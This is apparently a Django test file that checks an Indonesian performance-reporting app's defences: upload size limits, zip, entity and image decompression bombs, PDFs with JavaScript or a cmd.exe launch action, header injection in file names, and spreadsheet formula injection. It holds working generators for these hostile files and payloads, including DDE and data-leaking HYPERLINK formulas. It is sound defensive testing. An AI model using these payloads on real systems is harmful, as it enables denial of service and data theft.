"""Issue 13, points 5-7: uploads cannot take the server down, evidence carries no active content and
leaves only as a sandboxed attachment, and no exported cell is a live formula.

The big files are built cheaply: a zip bomb is a few hundred KB of compressed repetition, the
200 MB evidence upload is a body generated while it is read. Time and memory are measured in
scripts/bench_uploads.py (figures in docs/architecture.md); here "refused before parsing" is
asserted by behaviour: the parser is never called and the body is not read.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import SkipFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from kinerja.core.filecheck import image_problem, pdf_problem
from kinerja.core.uploads import LimitedUploadHandler
from kinerja.documents.models import DocumentJob
from kinerja.imports import services as import_services
from kinerja.imports import tables
from kinerja.imports.models import ImportRecord
from kinerja.imports.services import renaksi_import
from kinerja.imports.tables import TableError, read_table
from kinerja.measurement import services as measurement_services
from kinerja.measurement.models import Evidence
from kinerja.measurement.services import evidence_add
from kinerja.planning import services as planning
from kinerja.planning.models import PerjanjianKinerja, PKGoal, PKIndicator, RAActivity, RAQuarter
from kinerja.planning.renaksi_export import renaksi_xlsx
from kinerja.review import exporters as review_exporters
from kinerja.review.services import finding_accept, review_run
from tests.conftest import blank_pdf
from tests.test_exports import dump
from tests.test_imports import XLSX

MB = 1024 * 1024


# --- building hostile files -------------------------------------------------------------------


def workbook_with_sheet(sheet_xml_chunks, name: str = "Sheet1") -> bytes:
    """A valid small workbook whose first sheet's XML is replaced by the given chunks (streamed
    into the zip, so a sheet of hundreds of MB costs only its compressed size in memory)."""
    book = openpyxl.Workbook()
    book.active.title = name
    book.active["A1"] = "x"
    base = io.BytesIO()
    book.save(base)
    out = io.BytesIO()
    with zipfile.ZipFile(base) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with target.open(info.filename, "w", force_zip64=True) as handle:
                    for chunk in sheet_xml_chunks:
                        handle.write(chunk)
            else:
                target.writestr(info, source.read(info.filename))
    return out.getvalue()


HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
TAIL = b"</sheetData></worksheet>"


def zip_bomb(megabytes: int = 60) -> bytes:
    """Rows of empty cells, repeated: about 2.5 KB compressed per MB unpacked."""
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>' * 20000  # ~1 MB

    def chunks():
        yield HEAD
        for _ in range(megabytes):
            yield row
        yield TAIL

    return workbook_with_sheet(chunks())


def rows_workbook(rows: int, columns: int = 10) -> bytes:
    def chunks():
        yield HEAD
        for r in range(1, rows + 1):
            cells = "".join(
                f'<c r="{tables.column_letter(c)}{r}"><v>{r}</v></c>' for c in range(columns)
            )
            yield f'<row r="{r}">{cells}</row>'.encode()
        yield TAIL

    return workbook_with_sheet(chunks())


@pytest.fixture
def parser_spy(monkeypatch):
    """Fails the test if openpyxl is ever asked to parse the workbook."""
    calls = []

    def refuse(*args, **kwargs):
        calls.append(args)
        raise AssertionError("openpyxl.load_workbook was called for a file that must be refused")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)
    return calls


# --- point 5: workbooks and text files are checked before they are parsed ----------------------


def test_a_zip_bomb_workbook_is_refused_from_its_size_table_without_parsing(parser_spy):
    bomb = zip_bomb(60)
    assert len(bomb) < 400 * 1024  # a small upload...
    with pytest.raises(TableError) as refused:
        read_table(bomb, "bom.xlsx")
    message = str(refused.value)
    assert message.startswith("Berkas bom.xlsx") and "setelah dibuka" in message
    assert "batasnya 50,0 MB" in message
    assert parser_spy == []


def test_a_hundred_thousand_row_workbook_is_refused_with_its_sheet(parser_spy):
    data = rows_workbook(100_000, columns=1)
    assert len(data) < 10 * MB  # within the upload limit: only the rows give it away
    with pytest.raises(TableError) as refused:
        read_table(data, "besar.xlsx")
    assert str(refused.value).startswith(
        "Berkas besar.xlsx, lembar Sheet1: lebih dari 5.000 baris; batasnya 5.000 baris"
    )
    assert parser_spy == []


@pytest.mark.parametrize(
    ("sheet", "expected"),
    [
        # openpyxl builds every cell up to the furthest one stored, blank or not.
        (b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>', "lebih dari 5.000 baris"),
        (b'<row r="1"><c r="XFD1"><v>1</v></c></row>', "baris 1: 16.384 kolom; batasnya 60 kolom"),
        (b'<row r="1">' + b"<c><v>1</v></c>" * 61 + b"</row>", "61 kolom"),
        (
            b'<row r="1"><c r="BH1"><v>1</v></c></row><row r="2000"><c r="A2000"><v>1</v></c></row>',
            "sampai baris 2.000 dan kolom BH [(]120.000 sel[)]; batasnya 100.000 sel",
        ),
    ],
)
def test_a_far_away_cell_is_refused_before_openpyxl_builds_the_range(parser_spy, sheet, expected):
    with pytest.raises(TableError, match=expected):
        read_table(workbook_with_sheet([HEAD, sheet, TAIL]), "jauh.xlsx")
    assert parser_spy == []


def test_a_sheet_stored_under_another_name_is_checked_too(parser_spy):
    """The package may put a sheet anywhere its relationships point; the check follows them."""
    source = zipfile.ZipFile(
        io.BytesIO(workbook_with_sheet([HEAD, b'<row r="900000"><c r="A900000"/></row>', TAIL]))
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            data = data.replace(b"worksheets/sheet1.xml", b"lain/data.xml")
            target.writestr(info.filename.replace("worksheets/sheet1.xml", "lain/data.xml"), data)
    assert "xl/lain/data.xml" in zipfile.ZipFile(out).namelist()
    with pytest.raises(TableError, match="lembar Sheet1: lebih dari 5.000 baris"):
        read_table(out.getvalue(), "pindah.xlsx")
    assert parser_spy == []


def test_an_entity_bomb_inside_a_workbook_is_refused(parser_spy):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    with pytest.raises(TableError, match="DTD"):
        read_table(workbook_with_sheet([laughs]), "entitas.xlsx")
    assert parser_spy == []


def test_a_workbook_within_the_limits_is_still_read(settings):
    table = read_table(XLSX.read_bytes(), XLSX.name)
    assert table.sheet == "RENAKSI" and len(table.rows) > 60
    settings.KINERJA_IMPORT_MAX_ROWS = 50  # the limits come from settings
    with pytest.raises(TableError, match="lembar RENAKSI: lebih dari 50 baris"):
        read_table(XLSX.read_bytes(), XLSX.name)


def test_text_tables_are_bounded_in_rows_columns_and_line_length(monkeypatch):
    parsed = []
    real_reader = tables.csv.reader
    monkeypatch.setattr(
        tables.csv, "reader", lambda *a, **k: parsed.append(1) or real_reader(*a, **k)
    )
    many = b"".join(b"%d;x;y\n" % i for i in range(100_000))
    with pytest.raises(TableError, match=r"^Berkas baris\.csv, lembar baris\.csv: 100\.000 baris"):
        read_table(many, "baris.csv")
    assert parsed == []  # refused from the line count, before the CSV parser ran
    with pytest.raises(TableError, match=r"Berkas panjang\.tsv, baris 2: 60\.000 karakter"):
        read_table(b"a\tb\n" + b"x" * 60_000 + b"\n", "panjang.tsv")
    with pytest.raises(TableError, match=r"lebar\.csv, baris 1: 61 kolom"):
        read_table(b",".join([b"a"] * 61) + b"\n", "lebar.csv")
    with pytest.raises(TableError, match="CSV"):  # a field over csv's own limit is no 500
        read_table(b'"' + (b"x" * 45_000 + b"\n") * 3 + b'"\n', "sel.csv")
    assert read_table(b"a;b\n1;2\n", "kecil.csv").rows[1][1].value == "2"


def test_the_import_page_refuses_a_zip_bomb_with_its_name(login, world, parser_spy):
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("renaksi_upload", args=["lapas-luwuk"]),
        {"year": "2024", "file": SimpleUploadedFile("bom.xlsx", zip_bomb(60))},
    )
    assert response.status_code == 302  # kept as a pending import showing its one error
    page = client.get(response["Location"]).content.decode()
    assert "Berkas bom.xlsx" in page and "setelah dibuka" in page
    assert "Konfirmasi impor" not in page
    assert parser_spy == []


# --- point 5: the preview renders the kept check and never parses ---------------------------


def test_the_file_is_parsed_once_on_upload_and_the_preview_only_reads_the_kept_result(
    login, world, monkeypatch
):
    calls = []
    real = import_services.read_table
    monkeypatch.setattr(
        import_services, "read_table", lambda *a, **k: calls.append(1) or real(*a, **k)
    )
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("renaksi_upload", args=["lapas-luwuk"]),
        {"year": "2024", "file": SimpleUploadedFile("renaksi.xlsx", XLSX.read_bytes())},
    )
    assert calls == [1]
    record = ImportRecord.objects.get()
    stored = (record.status, record.summary, record.warnings)
    for _ in range(3):
        page = client.get(response["Location"]).content.decode()
        assert "23 indikator" in page and "Konfirmasi impor" in page
        assert "renaksi.xlsx, lembar RENAKSI, baris 61" in page
    assert calls == [1]  # three views, no parse
    record.refresh_from_db()
    assert (record.status, record.summary, record.warnings) == stored  # GET wrote nothing
    client.post(response["Location"])
    assert calls == [1, 1]  # confirming checks once more, inside the POST
    assert PerjanjianKinerja.objects.get(unit=world.luwuk, year=2024).indicators.count() == 23
    assert "Berkas ini sudah diimpor" in client.get(response["Location"]).content.decode()
    assert calls == [1, 1]


def test_a_pending_import_without_a_kept_check_asks_for_a_new_upload(login, world):
    record = ImportRecord(unit=world.luwuk, year=2024, filename="lama.xlsx", status="pending")
    record.file.save("lama.xlsx", ContentFile(XLSX.read_bytes()), save=False)
    record.save()
    client = login(world.users["operator_luwuk"])
    page = client.get(reverse("renaksi_preview", args=["lapas-luwuk", record.id])).content.decode()
    assert "unggah ulang berkasnya" in page and "Konfirmasi impor" not in page


# --- point 5: sizes refused while the body arrives --------------------------------------------


class GeneratedBody:
    """A multipart body of `size` bytes made up as it is read; counts what the server read."""

    def __init__(self, filename: str, size: int, boundary: str = "BATAS"):
        self.head = (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            "Content-Type: application/pdf\r\n\r\n%PDF-1.4\n"
        ).encode()
        self.tail = f"\r\n--{boundary}--\r\n".encode()
        self.length = len(self.head) + size + len(self.tail)
        self.consumed = 0
        self.content_type = f"multipart/form-data; boundary={boundary}"

    def read(self, size=-1):
        if size is None or size < 0:
            size = self.length - self.consumed
        start = self.consumed
        end = self.consumed = min(self.length, start + size)
        zeros_start, zeros_end = len(self.head), self.length - len(self.tail)
        out = self.head[start:end] if start < zeros_start else b""
        if min(end, zeros_end) > max(start, zeros_start):
            out += b"0" * (min(end, zeros_end) - max(start, zeros_start))
        if end > zeros_end:
            out += self.tail[max(start, zeros_end) - zeros_end : end - zeros_end]
        return out

    def readline(self, size=-1):
        return self.read(size if size and size > 0 else 65536)


def test_a_200_mb_evidence_upload_is_refused_without_reading_the_body(login, world, monkeypatch):
    agreement = world.draft_pk()
    planning.pk_sign(agreement=agreement, by=None)
    row = agreement.indicators.get(indicator__code="IKK-2.3")
    called = []
    monkeypatch.setattr(measurement_services, "evidence_add", lambda **kw: called.append(kw))
    body = GeneratedBody("laporan-besar.pdf", 200 * MB)
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("evidence_upload", args=["lapas-luwuk", 2024, 1, row.id]),
        **{
            "wsgi.input": body,
            "CONTENT_LENGTH": str(body.length),
            "CONTENT_TYPE": body.content_type,
        },
    )
    assert response.status_code == 302
    assert body.consumed < 1 * MB  # of 200 MB: the refusal came from the declared length
    page = client.get(response["Location"]).content.decode()
    assert (
        "Berkas laporan-besar.pdf berukuran sekitar 200 MB; batasnya 5 MB untuk data dukung" in page
    )
    assert called == [] and not Evidence.objects.exists()


def test_a_slightly_oversized_evidence_is_read_through_but_never_kept(login, world, signed_row):
    """A scan a few MB too large: the body is drained (so the browser gets the answer), not kept."""
    body = GeneratedBody("pindaian.pdf", 8 * MB)
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("evidence_upload", args=["lapas-luwuk", 2024, 1, signed_row.id]),
        **{
            "wsgi.input": body,
            "CONTENT_LENGTH": str(body.length),
            "CONTENT_TYPE": body.content_type,
        },
    )
    assert body.consumed == body.length
    page = client.get(response["Location"]).content.decode()
    assert "Berkas pindaian.pdf berukuran sekitar 8 MB; batasnya 5 MB untuk data dukung" in page
    assert not Evidence.objects.exists()


def test_an_oversized_import_is_refused_with_its_name_and_limit(login, world, settings):
    settings.KINERJA_IMPORT_MAX_BYTES = 100 * 1024
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("renaksi_upload", args=["lapas-luwuk"]),
        {"year": "2024", "file": SimpleUploadedFile("renaksi.xlsx", b"PK" + b"0" * 300 * 1024)},
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Berkas renaksi.xlsx berukuran sekitar" in page
    assert "batasnya 100 KB untuk berkas Rencana Aksi" in page
    assert not ImportRecord.objects.exists()


def test_a_file_growing_past_the_limit_while_it_streams_is_skipped(rf, settings):
    """When the declared length does not give it away, the bytes are counted as they arrive."""
    settings.KINERJA_EVIDENCE_MAX_BYTES = 1000
    request = rf.post("/unit/lapas-luwuk/realisasi/2024/tw/1/ikk/1/data-dukung/")
    request.path_info = reverse("evidence_upload", args=["lapas-luwuk", 2024, 1, 1])
    handler = LimitedUploadHandler(request)
    handler.handle_raw_input(None, {}, 500, "x")
    handler.new_file("file", "a.pdf", "application/pdf", None)
    assert handler.receive_data_chunk(b"x" * 600, 0) == b"x" * 600
    with pytest.raises(SkipFile):
        handler.receive_data_chunk(b"x" * 600, 600)
    assert "Berkas a.pdf berukuran lebih dari 1 KB" in request.upload_refused[0]


# --- point 7: evidence PDFs with active content, images --------------------------------------


def pdf_bytes(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action_js(writer):
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('x')"),
            }
        )
    )


def _page_aa(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/Named")})}
    )


def _launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )


def _attachment(writer):
    writer.add_attachment("program.exe", b"MZ")


def _xfa(writer):
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )


def _rich_media(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [DictionaryObject({NameObject("/Subtype"): NameObject("/RichMedia")})]
    )


def _hex_escaped(writer):
    _open_action_js(writer)


def pdf_with_object_stream(script: bool = True) -> bytes:
    """PDF 1.5 whose catalogue and open action sit in a compressed object stream: the words
    never appear in the file's bytes."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        4: b"<</S/JavaScript/JS(app.alert\\(1\\))>>" if script else b"<</S/Named/N/NextPage>>",
    }
    offsets, body = [], b""
    for number, obj in objects.items():
        offsets.append(f"{number} {len(body)}")
        body += obj + b"\n"
    header = " ".join(offsets).encode() + b"\n"
    stream = zlib.compress(header + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    objstm_offset = len(out)
    out += (
        f"5 0 obj\n<</Type/ObjStm/N {len(objects)}/First {len(header)}/Filter/FlateDecode"
        f"/Length {len(stream)}>>\nstream\n"
    ).encode()
    out += stream + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, 5, index) for index in range(len(objects))]
    rows += [struct.pack(">BIH", 1, objstm_offset, 0), struct.pack(">BIH", 1, xref_offset, 0)]
    xref = b"".join(rows)
    out += (
        f"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length {len(xref)}>>\nstream\n"
    ).encode()
    out += xref + b"\nendstream\nendobj\nstartxref\n" + str(xref_offset).encode() + b"\n%%EOF\n"
    return out


@pytest.mark.parametrize(
    ("build", "what"),
    [
        (_open_action_js, "JavaScript"),
        (_page_aa, "aksi otomatis"),
        (_launch, "menjalankan program"),
        (_attachment, "berkas tersemat"),
        (_xfa, "XFA"),
        (_rich_media, "RichMedia"),
    ],
)
def test_a_pdf_with_active_content_is_refused(build, what):
    message = pdf_problem(pdf_bytes(build), "laporan.pdf")
    assert message.startswith("Berkas laporan.pdf berisi") and what in message
    assert "tidak diterima sebagai data dukung" in message


def test_active_content_hidden_from_a_byte_search_is_still_found():
    hidden = pdf_with_object_stream()
    assert b"JavaScript" not in hidden
    assert "JavaScript" in pdf_problem(hidden, "tersembunyi.pdf")
    escaped = pdf_bytes(_hex_escaped).replace(b"/JavaScript", b"/J#61vaScript")
    assert "JavaScript" in pdf_problem(escaped, "escaped.pdf")


def test_a_clean_pdf_passes_and_a_broken_one_is_refused():
    assert pdf_problem(blank_pdf(), "bersih.pdf") == ""
    assert pdf_problem(pdf_with_object_stream(script=False), "bersih.pdf") == ""
    assert "tidak dapat dibaca sebagai PDF" in pdf_problem(b"%PDF-1.4\nsampah", "rusak.pdf")
    assert "tidak dapat dibaca sebagai PDF" in pdf_problem(blank_pdf()[:200], "potong.pdf")


def png(width: int, height: int, body: bytes | None = None) -> bytes:
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = body if body is not None else zlib.compress(b"\0" * (width + 1) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_images_are_real_and_not_decompression_bombs():
    assert image_problem(png(20, 10), "foto.png", "image/png") == ""
    bomb = png(100_000, 100_000, body=zlib.compress(b"\0" * 1000))
    assert len(bomb) < 200
    assert "terlalu besar" in image_problem(bomb, "bom.png", "image/png")
    big = png(8000, 8000, body=zlib.compress(b"\0" * 1000))
    assert "8.000 x 8.000 piksel; batasnya 50.000.000 piksel" in image_problem(
        big, "besar.png", "image/png"
    )
    assert "bukan gambar PNG yang utuh" in image_problem(
        b"\x89PNG\r\n\x1a\n" + b"sampah" * 10, "palsu.png", "image/png"
    )
    assert "bukan gambar JPEG yang utuh" in image_problem(
        b"\xff\xd8\xff" + b"sampah", "palsu.jpg", "image/jpeg"
    )


@pytest.fixture
def signed_row(world):
    agreement = world.draft_pk()
    planning.pk_sign(agreement=agreement, by=None)
    return agreement.indicators.get(indicator__code="IKK-2.3")


def test_the_entry_page_refuses_a_pdf_with_javascript_and_keeps_nothing(login, world, signed_row):
    client = login(world.users["operator_luwuk"])
    response = client.post(
        reverse("evidence_upload", args=["lapas-luwuk", 2024, 1, signed_row.id]),
        {"file": SimpleUploadedFile("BAST.pdf", pdf_bytes(_open_action_js))},
        follow=True,
    )
    page = response.content.decode()
    assert "Berkas BAST.pdf berisi JavaScript" in page
    assert not Evidence.objects.exists()
    with pytest.raises(ValidationError, match="tersembunyi.pdf berisi JavaScript"):
        evidence_add(
            pk_indicator=signed_row,
            quarter=1,
            data=pdf_with_object_stream(),
            filename="tersembunyi.pdf",
        )


# --- point 7: every user file leaves as a sandboxed attachment -------------------------------


def assert_sandboxed_attachment(response, filename_part: str):
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and filename_part in disposition
    assert "\n" not in disposition and '"' not in disposition.split("filename", 1)[1][2:-1]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_every_download_of_a_user_file_is_a_sandboxed_attachment(login, world, signed_row):
    evidence = evidence_add(
        pk_indicator=signed_row, quarter=1, data=blank_pdf(), filename='bukti"\r\nX-Evil: 1.pdf'
    )
    client = login(world.users["operator_luwuk"])
    response = client.get(reverse("evidence", args=["lapas-luwuk", evidence.id]))
    assert_sandboxed_attachment(response, "bukti")
    # the name as typed, minus what could end or split the header
    assert response["Content-Disposition"] == 'attachment; filename="bukti_X-Evil_ 1.pdf"'
    assert response["Content-Type"] == "application/pdf"
    job = DocumentJob(unit=world.luwuk, kind="pk", year=2024, format="pdf", status="done")
    job.filename = "PK-2024.pdf"
    job.file.save("pk.pdf", ContentFile(blank_pdf()), save=False)
    job.save()
    assert_sandboxed_attachment(
        client.get(reverse("document_download", args=["lapas-luwuk", job.id])), "PK-2024.pdf"
    )
    assert_sandboxed_attachment(
        client.get(reverse("review_download", args=["lapas-luwuk", "2024", "pdf"])),
        "Reviu-2024-lapas-luwuk.pdf",
    )


# --- point 6: no exported cell is a live formula ---------------------------------------------

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")',
]


def workbook_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, expected_texts) -> None:
    cells = workbook_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    missing = [t for t in expected_texts if not any(t in (v or "") for v in texts)]
    assert missing == []


@pytest.fixture
def hostile_plan(world):
    """The Luwuk plan with formula text typed into every free-text field of the Rencana Aksi."""
    renaksi_import(unit=world.luwuk, year=2024, data=XLSX.read_bytes(), filename=XLSX.name)
    agreement = PerjanjianKinerja.objects.get(unit=world.luwuk, year=2024)
    p = PAYLOADS
    for i, goal in enumerate(PKGoal.objects.filter(agreement=agreement)):
        PKGoal.objects.filter(pk=goal.pk).update(name=p[i % len(p)])
    for i, activity in enumerate(RAActivity.objects.filter(agreement=agreement)):
        RAActivity.objects.filter(pk=activity.pk).update(name=f"{p[i % len(p)]} #{i}")
    for i, row in enumerate(PKIndicator.objects.filter(agreement=agreement)):
        PKIndicator.objects.filter(pk=row.pk).update(
            # the blocked amount is read from the remarks' own words, kept after the payload
            ra_status=p[i % len(p)][:50],
            ra_remarks=f"{p[(i + 1) % len(p)]} {row.ra_remarks}".strip(),
        )
    for i, quarter in enumerate(RAQuarter.objects.filter(pk_indicator__agreement=agreement)):
        RAQuarter.objects.filter(pk=quarter.pk).update(
            planned_activity=p[i % len(p)],
            evidence_expected=p[(i + 2) % len(p)],
            achievement_text=p[(i + 3) % len(p)],
        )
    return agreement


def test_the_rencana_aksi_export_writes_user_text_as_text_and_reimports_the_same(
    world, hostile_plan
):
    export = renaksi_xlsx(agreement=hostile_plan)
    assert_no_formula(export.content, PAYLOADS)
    cells = workbook_cells(export.content)
    assert sum(c.value in PAYLOADS for c in cells) > 90  # the cells are there, as typed
    assert not any(isinstance(c.value, str) and c.value.startswith("'=") for c in cells)
    before = dump(hostile_plan)
    renaksi_import(unit=world.luwuk, year=2024, data=export.content, filename=export.filename)
    copy = PerjanjianKinerja.objects.get(unit=world.luwuk, year=2024)
    assert dump(copy) == before


def test_control_characters_in_user_text_do_not_break_the_export(world, hostile_plan):
    RAQuarter.objects.filter(pk_indicator__agreement=hostile_plan).update(
        planned_activity="\t=1+1 \x01\x02 rapat"
    )
    cells = workbook_cells(renaksi_xlsx(agreement=hostile_plan).content)
    planned = [c for c in cells if isinstance(c.value, str) and c.value.endswith("rapat")]
    assert planned and all(c.value == "\t=1+1  rapat" and c.data_type == "s" for c in planned)


def test_the_review_export_writes_explanations_and_names_as_text(world, hostile_plan):
    review = review_run(unit=world.luwuk, year=2024)
    finding = next(f for f in review.findings if f.rule == "ANG-01")
    finding_accept(
        unit=world.luwuk,
        year=2024,
        rule=finding.rule,
        key=finding.key,
        explanation='=HYPERLINK("http://contoh.invalid","lihat penjelasan")',
        by=world.users["head_luwuk"],
    )
    review = review_run(unit=world.luwuk, year=2024)
    content = review_exporters.review_xlsx(review).content
    assert_no_formula(content, ['=HYPERLINK("http://contoh.invalid","lihat penjelasan")'])
    explanation = next(
        c for c in workbook_cells(content) if c.value and str(c.value).startswith("=HYPERLINK")
    )
    assert explanation.data_type == "s"


def test_every_workbook_writer_goes_through_the_text_helper():
    """No module writes a workbook without kinerja.core.xlsx (a new exporter would be missed)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[1] / "kinerja"
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if "Workbook(" in path.read_text(encoding="utf-8")
        and "workbook_bytes" not in path.read_text(encoding="utf-8")
    ]
    assert writers == []


def test_the_downloaded_workbooks_are_sandboxed_attachments_without_formulas(
    login, world, hostile_plan
):
    client = login(world.users["operator_luwuk"])
    for name, url in [
        ("rencana-aksi-lapas-luwuk-2024.xlsx", ("renaksi_download", "xlsx")),
        ("Reviu-2024-lapas-luwuk.xlsx", ("review_download", "xlsx")),
    ]:
        response = client.get(reverse(url[0], args=["lapas-luwuk", "2024", url[1]]))
        assert_sandboxed_attachment(response, name)
        assert [c for c in workbook_cells(response.content) if c.data_type == "f"] == []


def test_the_import_command_refuses_an_oversized_file_before_reading_it(world, tmp_path, settings):
    from django.core.management import CommandError, call_command

    settings.KINERJA_IMPORT_MAX_BYTES = 10 * 1024
    big = tmp_path / "besar.xlsx"
    with big.open("wb") as handle:  # sparse: 300 MB on paper, nothing on disk or in memory
        handle.truncate(300 * MB)
    with pytest.raises(CommandError, match="Berkas besar.xlsx berukuran sekitar 300 MB"):
        call_command("import-renaksi", str(big), unit="lapas-luwuk", year=2024)
